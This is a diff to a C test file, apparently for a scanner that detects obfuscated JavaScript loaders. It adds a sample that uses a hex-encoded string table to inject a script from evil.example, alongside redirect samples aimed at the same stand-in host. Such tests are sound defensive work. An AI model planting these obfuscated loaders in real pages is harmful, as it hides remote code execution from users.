@@ -292,6 +292,12 @@ static void obfuscated_loaders(void **state)
 		    "window.location=u;"),
 		 WATCH_REF_REDIRECT, "https://evil.example/r");
 	assert_true(d->flags & OBF);
+	/* an obfuscator's string table, read by index */
+	d = only(rd("var _0x3f2a=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','evil.example','/o.js',"
+		    "'script'];var _0x1b=document['createElement'](_0x3f2a[3]);_0x1b['src']=_0x3f2a[0]+"
+		    "_0x3f2a[1]+_0x3f2a[2];document['head']['appendChild'](_0x1b);"),
+		 WATCH_REF_SCRIPT, "https://evil.example/o.js");
+	assert_true(d->flags & OBF);
 	/* a string built with += */
 	d = only(rd("var u='ht'; u+='tp://'; u+='evil.example/p'; document.location.href=u;"),
 		 WATCH_REF_REDIRECT, "http://evil.example/p");
